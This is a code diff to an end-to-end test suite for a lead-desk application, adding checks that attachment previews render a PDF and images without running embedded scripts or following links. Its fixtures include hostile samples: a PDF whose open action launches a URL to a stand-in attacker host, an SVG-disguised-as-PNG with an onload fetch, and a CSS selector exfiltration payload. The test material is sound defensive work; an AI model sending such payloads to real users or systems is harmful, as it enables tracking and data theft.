@@ -11,6 +11,7 @@ import type { Page } from '@playwright/test';
 import { simpleParser } from 'mailparser';
 import nodemailer from 'nodemailer';
 import { SMTPServer } from 'smtp-server';
+import { expectAccessible } from '../fixtures/accessible';
 import { addLead, team } from '../fixtures/desk';
 import { type OwnApi, ownApi } from '../fixtures/own-api';
 import { expect, test } from '../fixtures/test';
@@ -84,6 +85,18 @@ input[value^="a"]{background:url("${evil()}/exfiltrated")}</style><script>fetch(
 <div id="divRplyFwdMsg"><b>Von:</b> Mainstage &lt;booking@venue.example&gt;<br><b>Gesendet:</b> Freitag, 12. Juni 2026 14:05<br><b>An:</b> Anna Berg<br><b>Betreff:</b> Ihre Anfrage</div><p>Hallo Frau Berg, das sind unsere Worte.</p>
 </body></html>`;
 
+/** A page with words, a script that runs when it is opened, and a link over all of it. */
+const pdf = () => `%PDF-1.4
+1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('${evil()}/pdf'\\))>>>>endobj
+2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
+3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R/Annots[6 0 R]>>endobj
+4 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
+5 0 obj<</Length 41>>stream
+BT /F 24 Tf 20 100 Td (Doors at six) Tj ET
+endstream endobj
+6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(${evil()}/link)>>>>endobj
+trailer<</Root 1 0 R>>`;
+
 /** A reply of the lead's visitor to all, the lead's copy address among them. */
 async function receiveFor(page: Page, leadId: string): Promise<void> {
   const answer = await page.request.get(`${api.url}${deskApi}/leads/${leadId}`);
@@ -96,6 +109,9 @@ async function receiveFor(page: Page, leadId: string): Promise<void> {
     attachments: [
       { filename: 'plan.png', cid: 'plan@kunde.example', content: png, encoding: 'base64' },
       { filename: 'Gästeliste.html', content: '<script>alert(1)</script>', contentType: 'text/html' },
+      { filename: 'drawing.png', content: `<svg onload="fetch('${evil()}/drawing')"/>`, contentType: 'image/png' },
+      { filename: 'schedule.pdf', content: pdf(), contentType: 'application/pdf' },
+      { filename: 'broken.pdf', content: '%PDF-1.7 and nothing else', contentType: 'application/pdf' },
     ],
   });
 }
@@ -162,6 +178,31 @@ test.describe('a message at the desk', () => {
     ]);
     expect(download.suggestedFilename()).toBe('Gästeliste.html');
     expect(await readFile(await download.path(), 'utf8')).toBe('<script>alert(1)</script>');
+  });
+
+  test('shows pictures drawn anew and the pages of a PDF, and says why another file is not shown', async ({ page }) => {
+    const scripts: string[] = [];
+    page.on('request', (request) => void scripts.push(request.url()));
+    await openedLead(page);
+    const entry = page.getByRole('listitem').filter({ hasText: 'The visitor replied' });
+    await entry.getByRole('button', { name: 'Show plan.png' }).click();
+    await expect(entry.getByRole('img', { name: 'Preview of plan.png' })).toHaveJSProperty('naturalWidth', 1);
+    await entry.getByRole('button', { name: 'Show drawing.png' }).click();
+    await expect(entry).toContainText('This file is no picture of a kind that is shown: PNG, JPEG, GIF or WebP.');
+    expect(scripts.filter((url) => url.includes('pdf'))).toEqual([]);
+
+    await entry.getByRole('button', { name: 'Show schedule.pdf' }).press('Enter');
+    const shown = entry.getByRole('group', { name: 'Preview of schedule.pdf' });
+    await expect(shown.getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
+    await expect(shown).toContainText('Doors at six');
+    await expect(shown.getByRole('link')).toHaveCount(0);
+    await entry.getByRole('button', { name: 'Show broken.pdf' }).click();
+    await expect(entry).toContainText('This file is no PDF, or a damaged one.');
+    await page.waitForLoadState('networkidle');
+    expect(asked).toEqual([]);
+    await expectAccessible(page);
+    await entry.getByRole('button', { name: 'Hide schedule.pdf' }).click();
+    await expect(shown).toHaveCount(0);
   });
 
   test('is told to sales with a link to all of it', async ({ page }) => {
